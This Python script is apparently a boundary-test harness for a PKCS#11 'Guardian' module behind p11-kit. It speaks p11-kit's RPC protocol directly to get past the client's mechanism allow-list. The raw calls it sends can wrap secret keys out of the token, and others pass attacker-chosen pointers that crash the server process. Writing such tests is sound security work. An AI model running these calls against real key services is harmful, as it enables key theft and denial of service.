#!/usr/bin/python3
"""rpc_raw.py SOCKET TOKEN PIN ATTACK [ARGS...] -- an attack on the Guardian
service by a client of the operator's own: p11-kit's RPC protocol (p11-kit
0.24.1, p11-kit/rpc-message.h, rpc-message.c, rpc-transport.c) spoken over the
service's socket without p11-kit-client.so.  Used by test_service_boundary.sh.

p11-kit-client.so sends only the mechanisms on its list (no parameter, or
RSA-PSS/OAEP): C_DeriveKey(CKM_ECDH1_DERIVE) or C_WrapKey(AES-KEY-WRAP-PAD)
through it stop at the client with CKR_MECHANISM_INVALID and never reach the
service.  The server side does not check that list: p11-kit-remote decodes
any other mechanism's parameter as opaque bytes and passes them to the module.
So an operator who writes this much reaches the module with the calls the
stock client refuses, and the module must answer them as it does in-process.

Prints one verdict line first, as boundary_attacks.py does:
  REFUSED <CKR name>   the call failed (nothing is made: see the test)
  ALLOWED [detail]     the call succeeded
then, indented, what was tried.  Exit 0 unless the harness failed (exit 2).

Objects are named by boundary_attacks.py's selectors (CLASS:FIELD=VALUE).

Attacks (SEL = the key used):
  sign SEL                  C_SignInit(CKM_ECDSA) + C_Sign: the raw client works (a control)
  ecdh SEL [ADDR]           C_DeriveKey(CKM_ECDH1_DERIVE, CKD_NULL) with the public-data
                            pointer ADDR (default 0, NULL): the module must refuse a Guardian
                            key before the parameter is looked at; an operator's key reaches
                            the backend, which refuses the NULL pointer
                            (CKR_MECHANISM_PARAM_INVALID)
  wrapped SEL WRAPPING      C_WrapKey(CKM_AES_KEY_WRAP_PAD) of SEL under WRAPPING
  unwrapwith SEL            C_UnwrapKey(CKM_AES_KEY_WRAP_PAD) with SEL as unwrapping key
  devcert SEL ADDR          C_DeriveKey(CKM_GUARDIAN_DERIVE_DEVICE_CERT) with SEL (the
                            production CA key) and a CK_GUARDIAN_DEVICE_CERT_PARAMS whose
                            pDeviceId (32 bytes, binary) and pPublicKeyInfo are ADDR

The parameter of a mechanism outside p11-kit's list reaches the module as the
client's bytes: a pointer in it is an address the client chose, read in the
service's p11-kit-remote (ADDR 0x1000: that process dies of SIGSEGV).  ecdh
with an ADDR and devcert show it; the module should refuse such mechanisms in
service mode (measured with p11-kit 0.24.1; see the test's report).
"""
import os
import socket
import struct
import sys

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
from boundary_attacks import CLASSES, ckr_name  # noqa: E402  (the same names and selectors)

# p11-kit 0.24.1 rpc-message.h: the call numbers and their signatures.
CALLS = {
    "C_Initialize": (1, "ayyay", ""), "C_Finalize": (2, "", ""),
    "C_GetSlotList": (4, "yfu", "au"), "C_GetTokenInfo": (6, "u", "ssssuuuuuuuuuuuvvs"),
    "C_OpenSession": (10, "uu", "u"), "C_CloseSession": (11, "u", ""),
    "C_Login": (18, "uuay", ""), "C_Logout": (19, "u", ""),
    "C_FindObjectsInit": (26, "uaA", ""), "C_FindObjects": (27, "ufu", "au"), "C_FindObjectsFinal": (28, "u", ""),
    "C_SignInit": (42, "uMu", ""), "C_Sign": (43, "uayfy", "ay"),
    "C_WrapKey": (60, "uMuufy", "ay"), "C_UnwrapKey": (61, "uMuayaA", "u"), "C_DeriveKey": (62, "uMuaA", "u"),
}
HANDSHAKE = b"PRIVATE-GNOME-KEYRING-PKCS11-PROTOCOL-V-1"
CKA_CLASS, CKA_TOKEN, CKA_LABEL, CKA_ID, CKA_KEY_TYPE = 0x0, 0x1, 0x3, 0x102, 0x100
CKA_SENSITIVE, CKA_EXTRACTABLE, CKA_VALUE_LEN = 0x103, 0x162, 0x161
CKO_SECRET_KEY, CKK_GENERIC_SECRET = 4, 0x10
CKM_ECDSA, CKM_ECDH1_DERIVE, CKM_AES_KEY_WRAP_PAD = 0x1041, 0x1050, 0x210A
CKM_GUARDIAN_DERIVE_DEVICE_CERT = 0x80000000 | 0x47440000 | 0x0002
CKO_CERTIFICATE, CKG_GUARDIAN_DEVICE_ID_BINARY = 1, 2
CKD_NULL = 1
BOOL_ATTRS = {CKA_TOKEN, CKA_SENSITIVE, CKA_EXTRACTABLE}
ULONG_ATTRS = {CKA_CLASS, CKA_KEY_TYPE, CKA_VALUE_LEN}


class Refused(Exception):
    def __init__(self, rv, where):
        super().__init__(where)
        self.rv, self.where = rv, where


def u32(v):
    return struct.pack(">I", v)


def u64(v):
    return struct.pack(">Q", v)


def byte_array(b):
    """A byte array inside a value (a signature, a mechanism's parameter, an attribute's value)."""
    return u32(0xFFFFFFFF) if b is None else u32(len(b)) + b


def arg_bytes(b):
    """A byte-array argument of a call ('ay'): a validity byte first."""
    return b"\x01" + byte_array(b)


def attributes(template):
    """An attribute array ('aA'): each value encoded by the type p11-kit gives it."""
    out = u32(len(template))
    for t, v in template:
        if t in BOOL_ATTRS:
            out += u32(t) + b"\x01" + u32(1) + bytes([1 if v else 0])
        elif t in ULONG_ATTRS:
            out += u32(t) + b"\x01" + u32(8) + u64(v)
        else:
            out += u32(t) + b"\x01" + u32(len(v)) + byte_array(v)
    return out


def mechanism(mech, param=None):
    return u32(mech) + byte_array(param)


class Reader:
    def __init__(self, data):
        self.d, self.o = data, 0

    def take(self, n):
        b = self.d[self.o:self.o + n]
        if len(b) != n:
            raise Refused(0x30, "a short reply")  # the harness's own failure, as CKR_DEVICE_ERROR
        self.o += n
        return b

    def u32(self):
        return struct.unpack(">I", self.take(4))[0]

    def u64(self):
        return struct.unpack(">Q", self.take(8))[0]

    def byte_array(self):
        n = self.u32()
        return None if n == 0xFFFFFFFF else self.take(n)

    def arg_bytes(self):
        """A byte-array result ('ay'): a validity byte, then the array (or only its length)."""
        if not self.take(1)[0]:
            self.u32()
            return None
        return self.byte_array()

    def ulong_array(self):
        valid, n = self.take(1)[0], self.u32()
        return [self.u64() for _ in range(n)] if valid else [None] * n


class Connection:
    """One connection to p11-kit server: what p11-kit-client.so does, minus its mechanism list."""

    def __init__(self, path):
        self.s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
        self.s.connect(path)
        self.s.sendall(b"\x00")  # the credentials byte: the protocol version (0)
        self.recv(1)
        self.code = 0

    def recv(self, n):
        b = b""
        while len(b) < n:
            c = self.s.recv(n - len(b))
            if not c:
                raise Refused(0x30, "the service closed the connection")  # what the stock client says
            b += c
        return b

    def call(self, name, body, reply=""):
        """One request (its arguments already encoded); returns a Reader on the reply's values."""
        cid, sig, rsig = CALLS[name]
        msg = u32(cid) + byte_array(sig.encode()) + body
        options = b"client"
        self.code += 1
        self.s.sendall(u32(self.code) + u32(len(options)) + u32(len(msg)) + options + msg)
        _, olen, dlen = struct.unpack(">III", self.recv(12))
        self.recv(olen)
        r = Reader(self.recv(dlen))
        got = r.u32()
        got_sig = r.byte_array().decode()
        if got == 0:  # P11_RPC_CALL_ERROR: the return value
            raise Refused(r.u64(), name)
        if got != cid or got_sig != rsig:
            raise Refused(0x30, "%s: reply %d '%s'" % (name, got, got_sig))
        return r


def find(c, session, sel):
    try:
        cls, rest = sel.split(":", 1)
        field, value = rest.split("=", 1)
    except ValueError:
        sys.exit("ERROR bad selector %r" % sel)
    t = [] if CLASSES[cls] is None else [(CKA_CLASS, CLASSES[cls])]
    t.append({"label": (CKA_LABEL, value.encode()), "id": (CKA_ID, value.encode()),
              "idhex": (CKA_ID, bytes.fromhex(value) if field == "idhex" else b"")}[field])
    c.call("C_FindObjectsInit", u64(session) + attributes(t))
    found = c.call("C_FindObjects", u64(session) + u32(8)).ulong_array()
    c.call("C_FindObjectsFinal", u64(session))
    if len(found) != 1:
        sys.exit("ERROR %d objects match %s" % (len(found), sel))
    NOTES.append("object %s = handle %d (on this connection)" % (sel, found[0]))
    return found[0]


NOTES = []
Z_TEMPLATE = [(CKA_CLASS, CKO_SECRET_KEY), (CKA_KEY_TYPE, CKK_GENERIC_SECRET), (CKA_VALUE_LEN, 32),
              (CKA_TOKEN, False), (CKA_SENSITIVE, False), (CKA_EXTRACTABLE, True)]


def attack(c, session, name, args):
    key = find(c, session, args[0])
    if name == "sign":
        c.call("C_SignInit", u64(session) + mechanism(CKM_ECDSA) + u64(key))
        sig = c.call("C_Sign", u64(session) + arg_bytes(b"\x11" * 32) + u32(256)).arg_bytes()
        return "ALLOWED signature of %d bytes" % len(sig)
    if name == "ecdh":
        # CK_ECDH1_DERIVE_PARAMS {kdf, ulSharedDataLen, pSharedData, ulPublicDataLen, pPublicData}:
        # a real point would need a pointer into the service's memory; NULL says whether the
        # module looked at the key first (a Guardian key) or passed the call on (the backend's answer).
        addr = int(args[1], 0) if len(args) > 1 else 0
        params = struct.pack("<QQQQQ", CKD_NULL, 0, 0, 65, addr)
        NOTES.append("C_DeriveKey(CKM_ECDH1_DERIVE, %d-byte parameter, pPublicData 0x%x)" % (len(params), addr))
        h = c.call("C_DeriveKey", u64(session) + mechanism(CKM_ECDH1_DERIVE, params) + u64(key) +
                   attributes(Z_TEMPLATE)).u64()
        return "ALLOWED derived key handle %d" % h
    if name == "devcert":
        addr = int(args[1], 0)
        # {version 1, deviceIdFormat BINARY, pDeviceId, 32, pPublicKeyInfo, 91}: the module's header's layout.
        params = struct.pack("<QQQQQQ", 1, CKG_GUARDIAN_DEVICE_ID_BINARY, addr, 32, addr, 91)
        NOTES.append("C_DeriveKey(CKM_GUARDIAN_DERIVE_DEVICE_CERT, pDeviceId = pPublicKeyInfo = 0x%x)" % addr)
        h = c.call("C_DeriveKey", u64(session) + mechanism(CKM_GUARDIAN_DERIVE_DEVICE_CERT, params) + u64(key) +
                   attributes([(CKA_CLASS, CKO_CERTIFICATE), (CKA_TOKEN, False)])).u64()
        return "ALLOWED certificate handle %d" % h
    if name == "wrapped":
        wrapping = find(c, session, args[1])
        w = c.call("C_WrapKey", u64(session) + mechanism(CKM_AES_KEY_WRAP_PAD) + u64(wrapping) + u64(key) +
                   u32(4096)).arg_bytes()
        return "ALLOWED %d wrapped bytes: the secret left the token" % len(w)
    if name == "unwrapwith":
        t = [(CKA_CLASS, CKO_SECRET_KEY), (CKA_KEY_TYPE, CKK_GENERIC_SECRET), (CKA_TOKEN, False)]
        h = c.call("C_UnwrapKey", u64(session) + mechanism(CKM_AES_KEY_WRAP_PAD) + u64(key) +
                   arg_bytes(b"\x33" * 40) + attributes(t)).u64()
        return "ALLOWED unwrapped key handle %d" % h
    sys.exit("ERROR unknown attack %r" % name)


def main():
    if len(sys.argv) < 6:
        sys.exit(__doc__)
    path, token, pin, name, args = sys.argv[1], sys.argv[2], sys.argv[3], sys.argv[4], sys.argv[5:]
    try:
        c = Connection(path)
        # As p11-kit-client.so: the handshake, no reserved string ("" sent).
        c.call("C_Initialize", arg_bytes(HANDSHAKE) + b"\x00" + arg_bytes(b"\x00"))
        slots = c.call("C_GetSlotList", b"\x01" + u32(16)).ulong_array()
        slot = [s for s in slots
                if c.call("C_GetTokenInfo", u64(s)).byte_array().decode().rstrip() == token]
        if len(slot) != 1:
            sys.exit("ERROR %d tokens labelled %r" % (len(slot), token))
        session = c.call("C_OpenSession", u64(slot[0]) + u64(0x6)).u64()  # CKF_RW_SESSION | CKF_SERIAL_SESSION
        c.call("C_Login", u64(session) + u64(1) + arg_bytes(pin.encode()))
    except (OSError, Refused) as e:
        sys.exit("ERROR the raw client could not log in: %s" % e)
    try:
        print(attack(c, session, name, args))
    except Refused as r:
        print("REFUSED %s" % ckr_name(r.rv))
        NOTES.append("refused at %s" % r.where)
    finally:
        for n in NOTES:
            print("    " + n)
        try:
            c.call("C_Logout", u64(session))
            c.call("C_CloseSession", u64(session))
            c.call("C_Finalize", b"")
        except (OSError, Refused):
            pass


if __name__ == "__main__":
    main()
